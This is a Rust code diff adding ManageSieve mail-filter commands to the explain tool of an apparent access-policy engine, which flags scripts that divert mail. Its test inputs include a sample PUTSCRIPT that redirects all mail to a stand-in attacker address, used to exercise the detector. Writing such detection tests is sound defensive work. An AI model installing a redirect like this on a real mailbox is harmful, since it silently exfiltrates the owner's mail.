@@ -12,9 +12,10 @@ use latch_core::classify::http::{Head, route};
 use latch_core::classify::imap::command::{append, parse};
 use latch_core::classify::imap::token::pieces;
 use latch_core::classify::imap::{explained, explained_append};
+use latch_core::classify::sieve;
 use latch_core::classify::smtp::{enveloped, submission};
 use latch_core::grant::Preset;
-use latch_core::operation::{Audience, Class, Objects, Operation, Request};
+use latch_core::operation::{Audience, Class, Fact, Objects, Operation, Request};
 use latch_core::pdp::{Outcome, Pdp};
 use serde::{Deserialize, Serialize};
 use serde_json::{Map, Value};
@@ -65,6 +66,19 @@ struct AskedSmtp {
     mail: String,
 }
 
+/// A line about a mail filter.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct AskedSieve {
+    #[serde(rename = "protocol")]
+    _protocol: String,
+    /// As an agent would send it; literals with their CRLF inside.
+    command: String,
+    /// The script of this name that is stored now and runs.
+    #[serde(default)]
+    there: Option<String>,
+}
+
 /// One line out.
 #[derive(Debug, Serialize)]
 #[serde(untagged)]
@@ -95,6 +109,9 @@ struct Explanation {
     objects: Objects,
     #[serde(skip_serializing_if = "Option::is_none")]
     audience: Option<Audience>,
+    /// What a script would do: its class tells nothing of that.
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    facts: Vec<Fact>,
 }
 
 #[derive(Debug, Serialize)]
@@ -152,6 +169,19 @@ pub(super) fn one(what: &args::Explain) -> Result<Exit, Failure> {
             explainer.imap(&whole)
         }
         args::Explain::Smtp { from, to } => Ok(explainer.smtp(from, to, &Bytes::from(with_line_ends(&stdin()?)))),
+        args::Explain::Sieve { command, there } => {
+            let there = there.as_ref().map(std::fs::read).transpose().map_err(Failure::failed)?;
+            let verb = command.split(' ').next().unwrap_or_default();
+            let takes_script = ["PUTSCRIPT", "CHECKSCRIPT"].iter().any(|one| verb.eq_ignore_ascii_case(one));
+            let mut whole = command.clone().into_bytes();
+            let is_whole = pieces(&whole).is_some_and(|framed| sieve::parse(&framed).is_ok());
+            if takes_script && !is_whole && !command.contains('{') {
+                let script = with_line_ends(&stdin()?);
+                whole.extend_from_slice(format!(" {{{}+}}\r\n", script.len()).as_bytes());
+                whole.extend_from_slice(&script);
+            }
+            explainer.sieve(&whole, there.as_deref())
+        }
         args::Explain::Dav { request, headers, there } => {
             let there = there.as_ref().map(std::fs::read).transpose().map_err(Failure::failed)?;
             let asked = asked_dav(request, headers, there);
@@ -243,8 +273,13 @@ impl Explainer {
                 let asked: AskedSmtp = serde_json::from_value(value).map_err(|error| error.to_string())?;
                 return Ok(self.smtp(&asked.from, &asked.to, &Bytes::from(asked.mail)));
             }
+            Some("sieve") => {
+                let asked: AskedSieve = serde_json::from_value(value).map_err(|error| error.to_string())?;
+                return self.sieve(asked.command.as_bytes(), asked.there.as_deref().map(str::as_bytes));
+            }
             Some(other) => {
-                return Err(format!("this version explains HTTP requests, IMAP commands and mails, not {other}"));
+                let known = "HTTP requests, IMAP commands, mails and commands about mail filters";
+                return Err(format!("this version explains {known}, not {other}"));
             }
         }
         let asked: Asked = serde_json::from_value(value).map_err(|error| error.to_string())?;
@@ -294,7 +329,9 @@ impl Explainer {
         let operations = operations.into_iter().map(|operation| {
             let (action, class, objects, audience) =
                 (operation.action, operation.class, operation.objects, operation.audience);
-            Explanation { action, class, objects, audience }
+            let facts =
+                if class == Class::Divert && action.starts_with("sieve.") { operation.facts } else { Vec::new() };
+            Explanation { action, class, objects, audience, facts }
         });
         Explained::Request { operations: operations.collect(), class, default_decision }
     }
@@ -335,6 +372,26 @@ impl Explainer {
                 None => Ok(Explained::Local { answered_here: true }),
             },
             Err(refusal) => bad(refusal.to_string()),
+        }
+    }
+
+    /// A ManageSieve command, where the script that it names is the only one.
+    fn sieve(&self, command: &[u8], there: Option<&[u8]>) -> Result<Explained, String> {
+        // A script ends with CRLF, too.
+        let framed = pieces(command).or_else(|| pieces(command.strip_suffix(b"\r\n")?));
+        let framed = framed.ok_or_else(|| "the command is not one: a literal is not as long as it says".to_owned())?;
+        match sieve::parse(&framed) {
+            Ok(command) => Ok(match sieve::explained(&command, there) {
+                Some(operation) => {
+                    let class = operation.class;
+                    self.told(vec![operation], class)
+                }
+                None => Explained::Local { answered_here: true },
+            }),
+            Err(refused) => {
+                let (status, title, detail) = (400, "NO".to_owned(), refused.to_string());
+                Ok(Explained::Refused { refused: Refusal { status, title, detail } })
+            }
         }
     }
 
@@ -439,6 +496,13 @@ mod tests {
             r#"{"provider":"dav","method":"MOVE","url":"/cal/work/17.ics","headers":{"Destination":"/cal/play/17.ics"}}"#,
             r#"{"provider":"dav","method":"GET","url":"/cal/work/17.ics"}"#,
             r#"{"provider":"dav","method":"LOCK","url":"/cal/work/17.ics"}"#,
+            r#"{"protocol":"sieve","command":"LISTSCRIPTS"}"#,
+            r#"{"protocol":"sieve","command":"NOOP"}"#,
+            r#"{"protocol":"sieve","command":"PUTSCRIPT \"main\" {33+}\r\nredirect \"x@evil.example\";stop;\r\n","there":"keep;\r\n"}"#,
+            r#"{"protocol":"sieve","command":"SETACTIVE \"main\"","there":"discard;\r\n"}"#,
+            r#"{"protocol":"sieve","command":"DELETESCRIPT \"main\"\r\n"}"#,
+            r#"{"protocol":"sieve","command":"PUTSCRIPT \"main\" {99+}\r\nkeep;"}"#,
+            r#"{"protocol":"sieve","command":"STARTTLS"}"#,
             r#"{"protocol":"pop3","command":"DELE 1"}"#,
             "not json",
         ];
